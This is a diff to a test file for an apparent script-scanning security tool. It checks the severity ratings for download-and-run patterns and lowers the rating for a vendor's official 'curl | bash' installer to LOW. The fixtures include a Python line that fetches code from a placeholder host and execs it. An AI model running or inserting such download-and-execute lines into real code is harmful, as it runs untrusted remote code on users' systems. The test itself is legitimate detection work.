@@ -97,6 +97,7 @@ describe('classes of the third held-out round', () => {
     const facts = scriptFacts('s.py', "import requests\nexec(requests.get('https://cdn.helper.example/h.py').text)\n");
     expect(scriptFactFindings('s.py', facts, { subject: 'script', inputFlows: true }).find((f) => f.title === 'script downloads code and runs it')?.severity).toBe('CRIT');
     const official = scriptFacts('s.sh', 'curl -fsSL https://bun.sh/install | bash\n');
-    expect(scriptFactFindings('s.sh', official, { subject: 'script', inputFlows: true }).find((f) => f.title === 'script downloads code and runs it')?.severity).toBe('HIGH');
+    // The vendor's own installer is the tool's documented install step: LOW since held-out set 16 (s16-skills).
+    expect(scriptFactFindings('s.sh', official, { subject: 'script', inputFlows: true }).find((f) => f.title === "script runs a tool's official installer")?.severity).toBe('LOW');
   });
 });
